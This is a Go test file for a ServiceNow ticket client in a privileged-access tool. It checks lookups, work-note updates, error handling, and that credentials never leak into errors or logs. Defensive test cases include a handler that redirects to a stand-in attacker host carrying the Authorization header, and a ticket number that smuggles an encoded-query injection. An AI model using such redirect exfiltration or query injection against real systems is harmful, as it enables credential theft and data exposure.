package servicenow

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/escrow-pam/escrow/internal/escrow"
	"github.com/escrow-pam/escrow/internal/ticket"
)

// Canaries: if either shows up in an error or a log line, a credential
// leaked.
const (
	canaryUser     = "svc-escrow"
	canaryPassword = "CANARY-pw-5e0c1b"
	canaryToken    = "CANARY-tok-93d7aa"
)

var (
	basicCreds  = ticket.Credentials{Username: canaryUser, Password: canaryPassword}
	bearerCreds = ticket.Credentials{Token: canaryToken}
	bothCreds   = map[string]ticket.Credentials{"basic": basicCreds, "bearer": bearerCreds}
)

// fakeSN is a ServiceNow instance's Table API, as far as Escrow uses it.
// It checks each request the way ServiceNow would (auth, path, query) and
// more strictly (the exact set of parameters), and answers with the
// documented bodies in testdata.
type fakeSN struct {
	t     *testing.T
	creds ticket.Credentials
	// files maps table, then number, to the testdata file answering a
	// query for it; a number not there gets empty.json.
	files map[string]map[string]string
	// raw, if set, answers every GET with this testdata file regardless
	// of the query (a misconfigured or impostor server).
	raw string

	mu       sync.Mutex
	requests []string // "METHOD path number-or-sys_id"
	patches  []string // "path body"
}

var wantFields = map[string]string{
	"change_request": "sys_id,number,state,short_description,assigned_to,assigned_to.user_name,assigned_to.email,assignment_group,start_date,end_date,cmdb_ci",
	"incident":       "sys_id,number,state,short_description,assigned_to,assigned_to.user_name,assigned_to.email,assignment_group,cmdb_ci",
}

func newFake(t *testing.T, creds ticket.Credentials) *fakeSN {
	return &fakeSN{t: t, creds: creds, files: map[string]map[string]string{
		"change_request": {
			"CHG0012345": "change_implement.json",
			"CHG0012000": "change_closed.json",
			"CHG0012400": "change_scheduled_unassigned.json",
		},
		"incident": {"INC0010042": "incident.json"},
	}}
}

func (f *fakeSN) start() *httptest.Server {
	srv := httptest.NewServer(f)
	f.t.Cleanup(srv.Close)
	return srv
}

func (f *fakeSN) serveFile(w http.ResponseWriter, status int, name string) {
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		f.t.Errorf("read testdata: %v", err)
		w.WriteHeader(http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json;charset=UTF-8")
	w.WriteHeader(status)
	w.Write(b)
}

func (f *fakeSN) authorized(r *http.Request) bool {
	if f.creds.Token != "" {
		return r.Header.Get("Authorization") == "Bearer "+f.creds.Token
	}
	u, p, ok := r.BasicAuth()
	return ok && u == f.creds.Username && p == f.creds.Password
}

func (f *fakeSN) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if !f.authorized(r) {
		f.serveFile(w, http.StatusUnauthorized, "error_401.json")
		return
	}
	if r.Header.Get("Accept") != "application/json" {
		f.t.Errorf("Accept = %q", r.Header.Get("Accept"))
		w.WriteHeader(http.StatusNotAcceptable)
		return
	}
	rest, ok := strings.CutPrefix(r.URL.Path, "/api/now/table/")
	if !ok {
		f.t.Errorf("path %q is not the Table API", r.URL.Path)
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	tbl, sysID, _ := strings.Cut(rest, "/")
	if _, ok := wantFields[tbl]; !ok {
		f.t.Errorf("table %q", tbl)
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	q := r.URL.Query()
	switch {
	case r.Method == http.MethodGet && sysID == "":
		number, _ := strings.CutPrefix(q.Get("sysparm_query"), "number=")
		want := map[string][]string{
			"sysparm_query":         {"number=" + number},
			"sysparm_limit":         {"1"},
			"sysparm_display_value": {"all"},
			"sysparm_fields":        {wantFields[tbl]},
		}
		if !sameQuery(q, want) || !numberRE.MatchString(number) {
			f.t.Errorf("GET %s query %v, want %v", tbl, q, want)
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		f.record(r.Method + " " + r.URL.Path + " " + number)
		if f.raw != "" {
			f.serveFile(w, http.StatusOK, f.raw)
			return
		}
		name, ok := f.files[tbl][number]
		if !ok {
			w.Header().Set("X-Total-Count", "0")
			f.serveFile(w, http.StatusOK, "empty.json")
			return
		}
		// What ServiceNow sends with every page; Escrow asks for one
		// record and must not follow "next".
		w.Header().Set("X-Total-Count", "1")
		w.Header().Set("Link", fmt.Sprintf(`<%[1]s?sysparm_offset=0&sysparm_limit=1>;rel="first",<%[1]s?sysparm_offset=0&sysparm_limit=1>;rel="last"`, "https://acme.service-now.com"+r.URL.Path))
		f.serveFile(w, http.StatusOK, name)
	case r.Method == http.MethodPatch && sysID != "":
		if !sameQuery(q, map[string][]string{"sysparm_fields": {"sys_id"}}) || r.Header.Get("Content-Type") != "application/json" {
			f.t.Errorf("PATCH query %v, Content-Type %q", q, r.Header.Get("Content-Type"))
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		var body map[string]string
		dec := json.NewDecoder(r.Body)
		if err := dec.Decode(&body); err != nil {
			f.t.Errorf("PATCH body: %v", err)
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		b, _ := json.Marshal(body)
		f.record(r.Method + " " + r.URL.Path + " " + sysID)
		f.mu.Lock()
		f.patches = append(f.patches, r.URL.Path+" "+string(b))
		f.mu.Unlock()
		if sysID != "c83c5e5347c12200e0ef563dbb9a7190" {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		f.serveFile(w, http.StatusOK, "work_notes_patch.json")
	default:
		f.t.Errorf("unexpected %s %s", r.Method, r.URL)
		w.WriteHeader(http.StatusMethodNotAllowed)
	}
}

func sameQuery(got map[string][]string, want map[string][]string) bool {
	if len(got) != len(want) {
		return false
	}
	for k, v := range want {
		if !slices.Equal(got[k], v) {
			return false
		}
	}
	return true
}

func (f *fakeSN) record(s string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.requests = append(f.requests, s)
}

func (f *fakeSN) seen() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.requests)
}

func newSystem(t *testing.T, base string, creds ticket.Credentials, timeout time.Duration, log *slog.Logger) *System {
	t.Helper()
	s, err := New(Config{Name: "acme", BaseURL: base, Credentials: creds, Timeout: timeout, Logger: log})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return s
}

func checkErr(t *testing.T, err error, code escrow.Code, want string) {
	t.Helper()
	if err == nil {
		t.Fatalf("err = nil, want code %s", code)
	}
	if got := escrow.ErrorCode(err); got != code {
		t.Errorf("code = %s, want %s (err: %v)", got, code, err)
	}
	if !strings.Contains(err.Error(), want) {
		t.Errorf("err = %q, want it to mention %q", err, want)
	}
	noCanary(t, "error", err.Error(), fmt.Sprintf("%#v", err), escrow.ErrorMessage(err))
}

func noCanary(t *testing.T, what string, ss ...string) {
	t.Helper()
	for _, s := range ss {
		for _, c := range []string{canaryPassword, canaryToken} {
			if strings.Contains(s, c) {
				t.Errorf("%s quotes a credential: %q", what, s)
			}
		}
	}
}

func utc(s string) time.Time {
	tm, err := time.Parse(time.DateTime, s)
	if err != nil {
		panic(err)
	}
	return tm
}

func TestLookup(t *testing.T) {
	for name, creds := range bothCreds {
		t.Run(name, func(t *testing.T) {
			f := newFake(t, creds)
			srv := f.start()
			s := newSystem(t, srv.URL+"/", creds, time.Second, nil)
			for _, tc := range []struct {
				number string
				want   ticket.Ticket
				seen   []string
			}{
				{"CHG0012345", ticket.Ticket{
					System: "acme", Number: "CHG0012345", Kind: ticket.Change, State: "Implement",
					Summary:  "Rotate the orders database replica password",
					Assignee: "alice.smith", AssigneeEmail: "alice@example.com", AssignmentGroup: "Database",
					// The values, in UTC; the display values are in the API
					// user's zone, eight hours off.
					PlannedStart: utc("2026-11-22 10:00:00"), PlannedEnd: utc("2026-11-22 14:30:00"),
					ConfigurationItem: "orders-db-prod",
					URL:               srv.URL + "/nav_to.do?uri=change_request.do?sys_id=c83c5e5347c12200e0ef563dbb9a7190",
				}, []string{"GET /api/now/table/change_request CHG0012345"}},
				{"CHG0012000", ticket.Ticket{
					System: "acme", Number: "CHG0012000", Kind: ticket.Change, State: "Closed",
					Summary:  "Patch the payments cluster",
					Assignee: "bob.jones", AssigneeEmail: "bob@example.com", AssignmentGroup: "Payments",
					PlannedStart: utc("2026-10-02 03:00:00"), PlannedEnd: utc("2026-10-02 05:00:00"),
					ConfigurationItem: "payments-k8s",
					URL:               srv.URL + "/nav_to.do?uri=change_request.do?sys_id=46e18c0fa9fe19810066a0083f76bd56",
				}, []string{"GET /api/now/table/change_request CHG0012000"}},
				// Unassigned, no end date, no CI: empty fields, zero time.
				{"CHG0012400", ticket.Ticket{
					System: "acme", Number: "CHG0012400", Kind: ticket.Change, State: "Scheduled",
					Summary: "Renew the LDAP bind account", AssignmentGroup: "Identity",
					PlannedStart: utc("2026-11-23 17:00:00"),
					URL:          srv.URL + "/nav_to.do?uri=change_request.do?sys_id=a9e9c33dc61122760072455df62663d2",
				}, []string{"GET /api/now/table/change_request CHG0012400"}},
				{"INC0010042", ticket.Ticket{
					System: "acme", Number: "INC0010042", Kind: ticket.Incident, State: "In Progress",
					Summary:  "Orders API returns 500 for every checkout",
					Assignee: "carol.white", AssigneeEmail: "carol@example.com", AssignmentGroup: "Service Desk",
					ConfigurationItem: "orders-api",
					URL:               srv.URL + "/nav_to.do?uri=incident.do?sys_id=9d385017c611228701d22104cc95c371",
				}, []string{"GET /api/now/table/incident INC0010042"}},
				// Typed in lower case, with blanks.
				{" chg0012345 ", ticket.Ticket{
					System: "acme", Number: "CHG0012345", Kind: ticket.Change, State: "Implement",
					Summary:  "Rotate the orders database replica password",
					Assignee: "alice.smith", AssigneeEmail: "alice@example.com", AssignmentGroup: "Database",
					PlannedStart: utc("2026-11-22 10:00:00"), PlannedEnd: utc("2026-11-22 14:30:00"),
					ConfigurationItem: "orders-db-prod",
					URL:               srv.URL + "/nav_to.do?uri=change_request.do?sys_id=c83c5e5347c12200e0ef563dbb9a7190",
				}, []string{"GET /api/now/table/change_request CHG0012345"}},
			} {
				t.Run(tc.number, func(t *testing.T) {
					before := len(f.seen())
					got, err := s.Lookup(context.Background(), tc.number)
					if err != nil {
						t.Fatalf("Lookup: %v", err)
					}
					if *got != tc.want {
						t.Errorf("Lookup(%q)\n got %+v\nwant %+v", tc.number, *got, tc.want)
					}
					if seen := f.seen()[before:]; !slices.Equal(seen, tc.seen) {
						t.Errorf("requests %q, want %q", seen, tc.seen)
					}
				})
			}
		})
	}
}

func TestLookupNotFound(t *testing.T) {
	f := newFake(t, basicCreds)
	srv := f.start()
	s := newSystem(t, srv.URL, basicCreds, time.Second, nil)
	for _, tc := range []struct {
		number, want string
		seen         []string
	}{
		{"CHG0099999", `ServiceNow "acme" has no change CHG0099999`, []string{"GET /api/now/table/change_request CHG0099999"}},
		{"INC0099999", `ServiceNow "acme" has no incident INC0099999`, []string{"GET /api/now/table/incident INC0099999"}},
		// Any other prefix: both tables, change first.
		{"CTASK0010001", `ServiceNow "acme" has no change or incident CTASK0010001`, []string{
			"GET /api/now/table/change_request CTASK0010001", "GET /api/now/table/incident CTASK0010001"}},
	} {
		t.Run(tc.number, func(t *testing.T) {
			before := len(f.seen())
			got, err := s.Lookup(context.Background(), tc.number)
			if got != nil {
				t.Errorf("got %+v", got)
			}
			checkErr(t, err, escrow.CodeNotFound, tc.want)
			if !errors.Is(err, escrow.ErrNotFound) {
				t.Errorf("errors.Is(err, ErrNotFound) = false")
			}
			if seen := f.seen()[before:]; !slices.Equal(seen, tc.seen) {
				t.Errorf("requests %q, want %q", seen, tc.seen)
			}
		})
	}
}

func TestLookupOtherPrefixFallsBackToIncident(t *testing.T) {
	f := newFake(t, basicCreds)
	f.files["incident"]["SIR0000001"] = "incident.json"
	srv := f.start()
	s := newSystem(t, srv.URL, basicCreds, time.Second, nil)
	// incident.json is INC0010042, not SIR0000001: an answer for another
	// ticket is refused, and it was reached through the incident table.
	_, err := s.Lookup(context.Background(), "SIR0000001")
	checkErr(t, err, escrow.CodeInternal, "incident SIR0000001: the answer is for another ticket")
	want := []string{"GET /api/now/table/change_request SIR0000001", "GET /api/now/table/incident SIR0000001"}
	if seen := f.seen(); !slices.Equal(seen, want) {
		t.Errorf("requests %q, want %q", seen, want)
	}
}

func TestLookupRefusesBadNumbers(t *testing.T) {
	f := newFake(t, basicCreds)
	srv := f.start()
	s := newSystem(t, srv.URL, basicCreds, time.Second, nil)
	for _, n := range []string{"", "CHG1^ORnumberISNOTEMPTY", "CHG1,INC2", "number=CHG1", "0012345", "CHG 1", strings.Repeat("C", 41)} {
		_, err := s.Lookup(context.Background(), n)
		checkErr(t, err, escrow.CodeInvalid, "letters then digits")
		if err := s.Comment(context.Background(), n, "x"); escrow.ErrorCode(err) != escrow.CodeInvalid {
			t.Errorf("Comment(%q) = %v, want invalid", n, err)
		}
	}
	if seen := f.seen(); len(seen) != 0 {
		t.Errorf("requests were sent: %q", seen)
	}
}

func TestLookupAuthFailure(t *testing.T) {
	for name, creds := range bothCreds {
		t.Run(name, func(t *testing.T) {
			// The instance expects other credentials than Escrow sends.
			srv := newFake(t, ticket.Credentials{Username: "other", Password: "other-pw"}).start()
			s := newSystem(t, srv.URL, creds, time.Second, nil)
			_, err := s.Lookup(context.Background(), "CHG0012345")
			checkErr(t, err, escrow.CodeInternal, `ServiceNow "acme", change CHG0012345: the ticket system refused Escrow's credentials (HTTP 401)`)
			// The fix is on the ServiceNow side: say so, in the message a
			// client gets too (not the fixed "internal error").
			if err := s.Comment(context.Background(), "CHG0012345", "x"); !strings.Contains(err.Error(), "HTTP 401") {
				t.Errorf("Comment: %v", err)
			}
		})
	}
}

func TestLookupServerAnswers(t *testing.T) {
	for _, tc := range []struct {
		name    string
		handler http.HandlerFunc
		code    escrow.Code
		want    string
	}{
		{"403 with ServiceNow's error body", fileHandler(http.StatusForbidden, "error_403.json"), escrow.CodeInternal, "refused Escrow's credentials (HTTP 403)"},
		{"500", fileHandler(http.StatusInternalServerError, "error_401.json"), escrow.CodeUnavailable, "failed (HTTP 500)"},
		{"malformed", fileHandler(http.StatusOK, "malformed.json"), escrow.CodeInternal, "not the JSON its API documents"},
		{"result is an object", fileHandler(http.StatusOK, "result_object.json"), escrow.CodeInternal, "not the JSON its API documents"},
		{"display values ignored", fileHandler(http.StatusOK, "plain_values.json"), escrow.CodeInternal, "not the JSON its API documents"},
		{"no result", fileHandler(http.StatusOK, "missing_result.json"), escrow.CodeInternal, `the answer has no "result"`},
		{"date not in the API's format", fileHandler(http.StatusOK, "bad_date.json"), escrow.CodeInternal, "start_date is not a ServiceNow date-time"},
		{"another ticket", fileHandler(http.StatusOK, "change_closed.json"), escrow.CodeInternal, "the answer is for another ticket"},
		{"redirect to another host", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://login.example.net/sso", http.StatusFound)
		}, escrow.CodeInternal, "redirected to another host; refusing"},
		{"timeout", func(w http.ResponseWriter, r *http.Request) {
			select {
			case <-r.Context().Done():
			case <-time.After(10 * time.Second):
			}
		}, escrow.CodeUnavailable, "did not answer within 300ms"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := httptest.NewServer(tc.handler)
			defer srv.Close()
			s := newSystem(t, srv.URL, bearerCreds, 300*time.Millisecond, nil)
			got, err := s.Lookup(context.Background(), "CHG0012345")
			if got != nil {
				t.Errorf("got a ticket: %+v", got)
			}
			checkErr(t, err, tc.code, tc.want)
			if !strings.Contains(err.Error(), `ServiceNow "acme", change CHG0012345: `) {
				t.Errorf("err %q does not name the system and ticket", err)
			}
		})
	}
}

func fileHandler(status int, name string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			w.WriteHeader(http.StatusTeapot)
			return
		}
		w.Header().Set("Content-Type", "application/json;charset=UTF-8")
		w.WriteHeader(status)
		w.Write(b)
	}
}

func TestLookupRetriesWhenBusy(t *testing.T) {
	f := newFake(t, basicCreds)
	var calls int
	var mu sync.Mutex
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		calls++
		n := calls
		mu.Unlock()
		if n == 1 {
			// ServiceNow's rate limiting answers 429 with Retry-After.
			w.Header().Set("Retry-After", "0")
			w.WriteHeader(http.StatusTooManyRequests)
			return
		}
		f.ServeHTTP(w, r)
	}))
	defer srv.Close()
	s := newSystem(t, srv.URL, basicCreds, 2*time.Second, nil)
	got, err := s.Lookup(context.Background(), "CHG0012345")
	if err != nil {
		t.Fatalf("Lookup: %v", err)
	}
	if got.State != "Implement" {
		t.Errorf("State = %q", got.State)
	}
	mu.Lock()
	defer mu.Unlock()
	if calls != 2 {
		t.Errorf("%d calls, want 2", calls)
	}
}

func TestComment(t *testing.T) {
	for name, creds := range bothCreds {
		t.Run(name, func(t *testing.T) {
			f := newFake(t, creds)
			srv := f.start()
			s := newSystem(t, srv.URL, creds, time.Second, nil)
			text := `Escrow: access to "orders-db/replica" approved for alice.smith until 14:30 UTC`
			if err := s.Comment(context.Background(), "CHG0012345", text); err != nil {
				t.Fatalf("Comment: %v", err)
			}
			wantSeen := []string{
				"GET /api/now/table/change_request CHG0012345",
				"PATCH /api/now/table/change_request/c83c5e5347c12200e0ef563dbb9a7190 c83c5e5347c12200e0ef563dbb9a7190",
			}
			if seen := f.seen(); !slices.Equal(seen, wantSeen) {
				t.Errorf("requests %q, want %q", seen, wantSeen)
			}
			body, _ := json.Marshal(map[string]string{"work_notes": text})
			wantPatch := []string{"/api/now/table/change_request/c83c5e5347c12200e0ef563dbb9a7190 " + string(body)}
			if !slices.Equal(f.patches, wantPatch) {
				t.Errorf("patches %q, want %q", f.patches, wantPatch)
			}
		})
	}
}

func TestCommentFailures(t *testing.T) {
	t.Run("no such ticket", func(t *testing.T) {
		f := newFake(t, basicCreds)
		s := newSystem(t, f.start().URL, basicCreds, time.Second, nil)
		err := s.Comment(context.Background(), "CHG0099999", "approved")
		checkErr(t, err, escrow.CodeNotFound, "has no change CHG0099999")
		if len(f.patches) != 0 {
			t.Errorf("patched %q", f.patches)
		}
	})
	t.Run("empty text", func(t *testing.T) {
		f := newFake(t, basicCreds)
		s := newSystem(t, f.start().URL, basicCreds, time.Second, nil)
		checkErr(t, s.Comment(context.Background(), "CHG0012345", "  "), escrow.CodeInvalid, "needs text")
		if seen := f.seen(); len(seen) != 0 {
			t.Errorf("requests %q", seen)
		}
	})
	t.Run("record gone before the PATCH", func(t *testing.T) {
		f := newFake(t, basicCreds)
		s := newSystem(t, f.start().URL, basicCreds, time.Second, nil)
		err := s.Comment(context.Background(), "INC0010042", "approved")
		checkErr(t, err, escrow.CodeNotFound, `ServiceNow "acme", incident INC0010042: add work notes: not found`)
	})
	t.Run("PATCH answer for another record", func(t *testing.T) {
		f := newFake(t, basicCreds)
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodPatch {
				w.Write([]byte(`{"result":{"sys_id":"46e18c0fa9fe19810066a0083f76bd56"}}`))
				return
			}
			f.ServeHTTP(w, r)
		}))
		defer srv.Close()
		s := newSystem(t, srv.URL, basicCreds, time.Second, nil)
		err := s.Comment(context.Background(), "CHG0012345", "approved")
		checkErr(t, err, escrow.CodeInternal, "add work notes: the answer is not the record that was updated")
	})
}

func TestNew(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  Config
		want string
	}{
		{"credentials in the URL", Config{Name: "acme", BaseURL: "https://svc:" + canaryPassword + "@acme.service-now.com", Credentials: basicCreds}, "must not carry credentials"},
		{"bad URL", Config{Name: "acme", BaseURL: "acme.service-now.com", Credentials: basicCreds}, "must be an absolute https URL"},
		{"no credentials", Config{Name: "acme", BaseURL: "https://acme.service-now.com"}, "username and password, or a token"},
		{"no password", Config{Name: "acme", BaseURL: "https://acme.service-now.com", Credentials: ticket.Credentials{Username: "svc"}}, "username and password, or a token"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, err := New(tc.cfg)
			if s != nil {
				t.Errorf("got a System")
			}
			checkErr(t, err, escrow.CodeInvalid, tc.want)
		})
	}
}

// TestCanary drives every failure with each kind of credential and checks
// that neither the password nor the token reaches an error or a log line,
// even when the server echoes the Authorization header back.
func TestCanary(t *testing.T) {
	for name, creds := range bothCreds {
		t.Run(name, func(t *testing.T) {
			var logs bytes.Buffer
			log := slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
			echo := func(status int) http.HandlerFunc {
				return func(w http.ResponseWriter, r *http.Request) {
					w.Header().Set("Content-Type", "application/json")
					w.Header().Set("WWW-Authenticate", r.Header.Get("Authorization"))
					w.WriteHeader(status)
					fmt.Fprintf(w, `{"error":{"message":%q,"detail":"Required to provide Auth information"},"status":"failure"}`, r.Header.Get("Authorization"))
				}
			}
			wrong := newFake(t, ticket.Credentials{Token: "not-it"})
			handlers := map[string]http.Handler{
				"401 echo":      echo(http.StatusUnauthorized),
				"403 echo":      echo(http.StatusForbidden),
				"500 echo":      echo(http.StatusInternalServerError),
				"400 echo":      echo(http.StatusBadRequest),
				"200 echo":      echo(http.StatusOK), // no "result"
				"wrong creds":   wrong,
				"malformed":     fileHandler(http.StatusOK, "malformed.json"),
				"result object": fileHandler(http.StatusOK, "result_object.json"),
				"not found":     newFake(t, creds),
				"redirect": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					http.Redirect(w, r, "https://evil.example.net/?a="+r.Header.Get("Authorization"), http.StatusFound)
				}),
			}
			var errs int
			for hname, h := range handlers {
				srv := httptest.NewServer(h)
				s := newSystem(t, srv.URL, creds, time.Second, log)
				_, lerr := s.Lookup(context.Background(), "CHG0099999")
				cerr := s.Comment(context.Background(), "CHG0099999", "approved")
				srv.Close()
				for _, err := range []error{lerr, cerr} {
					if err == nil {
						t.Errorf("%s: no error", hname)
						continue
					}
					errs++
					noCanary(t, hname+" error", err.Error(), fmt.Sprintf("%#v", err), escrow.ErrorMessage(err))
				}
			}
			// Unreachable: the net error must not carry the request either.
			s := newSystem(t, "http://127.0.0.1:1", creds, time.Second, log)
			_, err := s.Lookup(context.Background(), "CHG0099999")
			checkErr(t, err, escrow.CodeUnavailable, "cannot be reached")
			if errs != 2*len(handlers) {
				t.Errorf("%d errors, want %d", errs, 2*len(handlers))
			}
			if logs.Len() == 0 {
				t.Fatal("nothing was logged: the log half of this test checks nothing")
			}
			noCanary(t, "log", logs.String())
		})
	}
}
